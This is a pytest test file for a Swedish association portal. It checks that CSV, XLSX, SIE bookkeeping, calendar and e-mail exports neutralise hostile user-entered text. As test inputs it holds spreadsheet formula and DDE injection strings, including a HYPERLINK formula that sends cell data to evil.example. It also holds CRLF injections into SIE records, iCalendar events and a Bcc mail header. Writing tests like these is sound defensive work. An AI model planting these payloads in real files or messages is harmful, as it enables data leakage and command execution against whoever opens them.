"""Files the portal writes from what members and staff typed cannot attack their readers.

Every tabular export × a table of hostile values: the file opens (openpyxl, csv) with no
formula and no extra row, and imports again unchanged where the portal imports that kind.
The SIE file, the calendar files and the e-mail headers keep each value inside its field.
PostgreSQL stores no NUL in text, so no stored value can hold one; U+0001 stands in for the
control characters. Forms and imports refuse those now (``tests/test_hostile_text.py``); the
values here are stored as data from before that rule would be.
"""

import csv
import datetime
import io
import re

import pytest
from django.core import mail
from django.test import Client
from django.urls import reverse
from icalendar import Calendar
from openpyxl import load_workbook

from budget.invoicing.sie import sie_export
from budget.models import Invoice
from meetings import services
from meetings.calendar import feed_ics, meeting_ics
from meetings.models import Invitation
from meetings.plan_file import PLAN_KIND
from members.imports import KINDS
from members.models import Association, Person, Role
from nns_portal.tabular.imports import import_preview
from tests.factories import (
    AssociationFactory,
    MeetingFactory,
    RoleFactory,
    StaffFactory,
)
from tests.invoicing import issue

HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1;"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "line break": "Rad ett\nRad två",
    "quotes and braces": 'Namn "citat" {klammer} }',
    "semicolon": "Ett; två",
    "right-to-left": "\u202eexe.txt",
    "emoji": "Förbund 😀",
    "control": "Kontroll\x01tecken",
}
FORMULA_STARTS = ("=", "+", "-", "@")


def _association(value: str) -> str:
    AssociationFactory(name=value)
    return value


def _person(value: str) -> str:
    person = RoleFactory(kind=Role.Kind.OFFICER).person
    Person.objects.filter(pk=person.pk).update(first_name=value)  # as stored before the rule
    return value


def _meeting(value: str) -> str:
    MeetingFactory(title=value, place=value, agenda=value)
    return value


EXPORTS = {
    "associations": ("admin:members_association_export", KINDS["associations"], _association),
    "people": ("admin:members_person_export", KINDS["people"], _person),
    "meeting-plan": ("admin:meetings_meeting_export", PLAN_KIND, _meeting),
}


@pytest.fixture
def staff() -> Client:
    client = Client()
    client.force_login(StaffFactory(is_superuser=True))
    return client


def _csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def _xlsx_rows(content: bytes) -> list[tuple]:
    sheet = load_workbook(io.BytesIO(content)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
    return list(sheet.iter_rows(values_only=True))


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE.keys())
@pytest.mark.parametrize("name", EXPORTS)
def test_an_export_holds_hostile_text_as_text(staff, scene, name, value, file_format):
    url, kind, make = EXPORTS[name]
    make(value)
    expected_rows = len(kind.export_rows()) + 1

    content = staff.get(reverse(url, args=[file_format])).content

    if file_format == "csv":
        rows = _csv_cells(content)
        assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
        assert any(f"'{value}" in row or value in row for row in rows)
    else:
        rows = _xlsx_rows(content)
        shown = value.replace("\x01", "\ufffd")
        assert any(shown in row for row in rows)
    assert len(rows) == expected_rows
    preview = import_preview(kind=kind, content=content, filename=f"x.{file_format}")
    if "\x01" in value:  # a control character is refused on import (a workbook has U+FFFD)
        assert file_format == "xlsx" or "styrtecken" in preview.errors[0].message
    elif "\n" in value:  # a name or title is one line: a line break is refused on import
        assert "tecken som inte kan sparas (U+000A)" in preview.errors[0].message
    else:
        assert preview.errors == []
        assert (preview.created, preview.updated) == (0, 0)


@pytest.mark.django_db
@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE.keys())
def test_the_attendance_list_holds_hostile_names_as_text(staff, scene, frozen, send, value):
    meeting = MeetingFactory()
    Person.objects.filter(pk=scene.chair_a.pk).update(first_name=value)
    send(services.invitations_send, meeting=meeting)
    invited = Invitation.objects.filter(meeting=meeting).count()

    url = reverse("admin:meetings_meeting_attendance_csv", args=[meeting.pk])
    rows = _csv_cells(staff.get(url).content)

    assert len(rows) == invited + 1
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert any(value in cell for row in rows for cell in row)


SIE_FIELD = re.compile(r'"((?:[^"\\]|\\.)*)"|(\{[^}]*\})|(\S+)')


def _sie_records(content: bytes) -> list[list[str]]:
    """Each line as its fields, as a bookkeeping program reads them (quoted text unescaped)."""
    records = []
    for line in content.decode("cp437").split("\r\n"):
        if not line.strip():
            continue
        fields = []
        for match in SIE_FIELD.finditer(line):
            quoted, braces, word = match.groups()
            # The format's only escape is \" (any other backslash is itself).
            fields.append(quoted.replace('\\"', '"') if quoted is not None else braces or word)
        records.append(fields)
    return records


@pytest.mark.parametrize(
    "name",
    [
        'Förbund"\r\n#TRANS 1510 {} 999999.00',
        'Förbund\n}\n#VER F 99 20260101 "x"\n{',
        'Förbund {} \\ " }',
        "Förbund \u202e 😀 \x01",
    ],
    ids=["quote and CR/LF", "braces on lines of their own", "backslash and braces", "outside PC8"],
)
def test_the_sie_file_keeps_every_name_inside_its_field(invoicing, name):
    Association.objects.filter(pk=invoicing.a.pk).update(name=name)
    alfa = issue(Association.objects.get(pk=invoicing.a.pk))
    beta = issue(invoicing.b)

    content = sie_export(start=datetime.date(2026, 1, 1), end=datetime.date(2026, 12, 31))

    assert content.count(b"\r\n") == len(content.splitlines())  # no line ends but CRLF
    records = _sie_records(content)
    vouchers = [r for r in records if r[0] == "#VER"]
    transactions = [r for r in records if r[0] == "#TRANS"]
    assert [v[1:3] for v in vouchers] == [["F", "1"], ["F", "2"]]
    # Each voucher: accounts receivable and one income account per fee line, nothing more.
    assert len(transactions) == alfa.lines.count() + 1 + beta.lines.count() + 1
    assert sum(1 for r in records if r == ["{"]) == sum(1 for r in records if r == ["}"]) == 2
    title = vouchers[0][4]
    expected = re.sub(r"[\x00-\x1f]", " ", name).encode("cp437", errors="replace").decode("cp437")
    assert title == f"Faktura 2026-0001 {expected}"
    assert Invoice.objects.count() == 2


def test_a_calendar_keeps_a_hostile_title_in_its_event(db):
    title = "Möte\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Falskt"
    meeting = MeetingFactory(title=title, place='Rum; 2, \\ "A"', agenda="Rad\nrad")

    for content in (meeting_ics(meeting), feed_ics([meeting], name="Mina möten")):
        calendar = Calendar.from_ical(content)
        [event] = calendar.walk("VEVENT")
        assert str(event["SUMMARY"]) == title.replace("\r\n", "\n")
        assert str(event["LOCATION"]) == 'Rum; 2, \\ "A"'


def test_an_e_mail_subject_holds_no_header_from_a_title(scene, frozen, send):
    meeting = MeetingFactory(title="Träff\r\nBcc: angripare@evil.example")

    send(services.invitations_send, meeting=meeting)

    assert mail.outbox
    for message in mail.outbox:
        sent = message.message()
        assert sent["Bcc"] is None
        assert sent.get_all("Subject") == [sent["Subject"]]
        assert "\n" not in message.subject and "\r" not in message.subject
